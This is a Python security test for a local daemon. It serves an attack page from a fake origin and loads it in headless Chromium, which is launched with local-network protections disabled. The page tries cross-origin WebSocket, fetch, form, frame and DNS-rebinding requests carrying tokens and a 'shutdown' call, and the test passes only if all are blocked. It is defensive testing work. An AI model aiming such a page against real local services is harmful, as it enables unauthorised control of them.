"""S9: a web page in a real browser attacks the daemon's TCP port; it must read nothing and change nothing.

    python tests/reliability/browser.py

The page comes from another origin, knows the port and even the tokens, and tries what pages can: WebSockets (also from a frame
without an origin, and with the token in the address), requests with and without a preflight, forms, frames, scripts, pictures; each
also under a name of its own that leads to 127.0.0.1, as after DNS rebinding. The same page attacks a server without a guard, where
it must get through, or it proves nothing. Prints what was tried; ends with 1 when the daemon was reached, or the other was not.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import http.server
import json
import shutil
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

TESTS = Path(__file__).resolve().parent.parent
if str(TESTS) not in sys.path:  # started as a command
    sys.path.insert(0, str(TESTS))

from daemon.small_backend import served  # noqa: E402
from websockets.asyncio.server import ServerConnection, serve  # noqa: E402

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
EVIL, REBOUND = "evil.example", "rebound.example"
PATIENCE = 60.0
"""Seconds for the whole page."""
PAGE = """<!doctype html><title>attack</title><body><script>
const target = TARGET, tokens = TOKENS, found = [];
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const call = (method, params) => JSON.stringify({jsonrpc: "2.0", id: 1, method, params});
const hello = (token) => call("hello", {protocol: 1, client: "page", scope: "write", token});
const shutdown = call("shutdown", {});

function socket(name, address) {
  return new Promise((done) => {
    let one, open = false, read = "";
    const end = () => { found.push({name, opened: open, read}); done(); };
    try { one = new WebSocket(address); } catch (error) { return end(); }
    one.onopen = () => { open = true; one.send(hello(tokens.write)); one.send(shutdown); setTimeout(() => one.close(), 300); };
    one.onmessage = (event) => { read += event.data; };
    one.onclose = end;
  });
}

async function request(name, address, options) {
  let opened = false, read = "";
  try {
    const answer = await fetch(address, {signal: AbortSignal.timeout(3000), ...options});
    opened = answer.type !== "opaque" && answer.ok;
    read = await answer.text();
  } catch (error) {}
  found.push({name, opened, read});
}

async function form(address) {
  const frame = document.createElement("iframe");
  frame.name = "into";
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: address, target: "into", enctype: "text/plain"});
  const field = document.createElement("input");
  Object.assign(field, {name: shutdown, value: ""});
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  await wait(500);
  let read = "";
  try { read = frame.contentDocument.body.innerText; } catch (error) {}
  found.push({name: "form " + address, opened: false, read});
}

function element(kind, address) {
  return new Promise((done) => {
    const one = document.createElement(kind);
    const end = (opened) => { found.push({name: kind + " " + address, opened, read: ""}); done(); };
    one.onload = () => end(kind !== "iframe");
    one.onerror = () => end(false);
    one.src = address;
    document.body.append(one);
    setTimeout(() => end(false), 2000);
  });
}

async function withoutOrigin(address) {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  const end = new Promise((done) => addEventListener("message", (event) => { found.push(event.data); done(); }, {once: true}));
  const code = `const one = new WebSocket(${JSON.stringify(address)});` +
    `const tell = (opened) => parent.postMessage({name: "socket without an origin", opened, read: ""}, "*");` +
    `one.onopen = () => tell(true); one.onclose = () => tell(false);`;
  frame.srcdoc = "<script>" + code + "</" + "script>";
  document.body.append(frame);
  await Promise.race([end, wait(3000)]);
}

async function attack() {
  const hosts = ["127.0.0.1:", "localhost:", "REBOUND:"].map((name) => name + target);
  for (const host of hosts) {
    await socket("socket " + host, `ws://${host}/`);
    await socket("socket with a token " + host, `ws://${host}/?token=${tokens.write}`);
    await request("simple POST " + host, `http://${host}/`, {method: "POST", mode: "no-cors", body: shutdown});
    await request("POST " + host, `http://${host}/`, {method: "POST", headers: {"Content-Type": "application/json"}, body: shutdown});
    await request("GET " + host, `http://${host}/`, {});
    await request("GET with credentials " + host, `http://${host}/`, {credentials: "include"});
    await request("with a header " + host, `http://${host}/`, {headers: {Authorization: "Bearer " + tokens.write}});
    await form(`http://${host}/`);
    for (const kind of ["iframe", "img", "script"]) await element(kind, `http://${host}/`);
    navigator.sendBeacon(`http://${host}/`, shutdown);
  }
  await withoutOrigin(`ws://127.0.0.1:${target}/`);
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
}
attack();
</script></body>"""


@dataclass(frozen=True)
class Attacked:
    """What the page tells, and what there is to see on our side."""

    tried: list[dict[str, Any]]
    reached: int
    """Requests that were carried out."""
    changed: bool

    @property
    def through(self) -> list[str]:
        """What opened or could be read."""
        return [one["name"] for one in self.tried if one["opened"] or one["read"]]


def browser() -> str | None:
    """A browser on the path."""
    return next((found for name in BROWSERS if (found := shutil.which(name))), None)


@contextmanager
def attacker(port: int, tokens: dict[str, str]) -> Iterator[tuple[int, list[list[dict[str, Any]]], threading.Event]]:
    """A web server with the page, which also takes its report."""
    page = PAGE.replace("TARGET", json.dumps(port)).replace("TOKENS", json.dumps(tokens)).replace("REBOUND", REBOUND).encode()
    reports: list[list[dict[str, Any]]] = []
    reported = threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            reported.set()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as made:
        thread = threading.Thread(target=made.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield made.server_port, reports, reported
        finally:
            made.shutdown()
            thread.join()


def visit(program: str, folder: Path, port: int, tokens: dict[str, str]) -> list[dict[str, Any]]:
    """Opens the page and returns what it tells.

    Raises:
        TimeoutError: when it tells nothing.
    """
    with attacker(port, tokens) as (page, reports, reported):
        rules = f"MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
        flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-extensions"]
        # The browser's own questions about the local network are not what protects us.
        flags += ["--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"]
        command = [program, *flags, f"--user-data-dir={folder}", f"--host-resolver-rules={rules}", "--remote-debugging-port=0"]
        with subprocess.Popen([*command, f"http://{EVIL}:{page}/"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as running:
            try:
                if not reported.wait(PATIENCE):
                    raise TimeoutError("the page told nothing")
            finally:
                running.terminate()
                with suppress(subprocess.TimeoutExpired):
                    running.wait(10)
                running.kill()
        return reports[0]


def attack_daemon(program: str, folder: Path) -> Attacked:
    """The page against the daemon's server."""
    vault = folder / "vault"
    vault.mkdir()
    (vault / "Secret.md").write_text("# Secret\n\n[[nowhere]]\n", encoding="utf-8")
    with served(vault, folder / "state", tcp=True) as server:
        assert server.port is not None
        tokens = {scope: (server.state / "api" / f"{scope}-token").read_text("ascii") for scope in ("read", "write")}
        before = _state(folder)
        tried = visit(program, folder / "profile", server.port, tokens)
        reached = sum(server.backend.asked.values()) + server.backend.ended
        return Attacked(tried, reached, _state(folder) != before)


def _state(folder: Path) -> dict[str, str]:
    """The vault, and what tells of the daemon but for its log."""
    paths = [path for part in ("vault", "state/api") for path in sorted((folder / part).rglob("*")) if path.is_file()]
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in paths}


def attack_unguarded(program: str, folder: Path) -> Attacked:
    """The page against ``websockets`` as it comes."""
    messages: list[str] = []
    ready, ended = threading.Event(), threading.Event()
    ports: list[int] = []

    async def answer(connection: ServerConnection) -> None:
        async for message in connection:
            messages.append(str(message))
            await connection.send('{"secret": true}')

    async def run() -> None:
        async with serve(answer, "127.0.0.1", 0) as made:
            ports.append(made.sockets[0].getsockname()[1])
            ready.set()
            await asyncio.to_thread(ended.wait)

    thread = threading.Thread(target=asyncio.run, args=(run(),))
    thread.start()
    try:
        ready.wait()
        return Attacked(visit(program, folder / "other-profile", ports[0], {"read": "", "write": ""}), len(messages), False)
    finally:
        ended.set()
        thread.join()


def main() -> int:
    argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter).parse_args()
    program = browser()
    if program is None:
        print(f"no browser is installed ({', '.join(BROWSERS)})", file=sys.stderr)
        return 1
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        found, control = attack_daemon(program, Path(folder)), attack_unguarded(program, Path(folder))
    for one in found.tried:
        print(f"{one['name']}: {'OPENED' if one['opened'] else 'closed'}, read {one['read'][:60]!r}")
    print(f"the daemon: {len(found.tried)} tried, {len(found.through)} through, {found.reached} carried out, changed: {found.changed}")
    print(f"without a guard: {len(control.through)} through, {control.reached} carried out (must be more than 0)")
    return 0 if not found.through and not found.reached and not found.changed and control.through and control.reached else 1


if __name__ == "__main__":
    sys.exit(main())
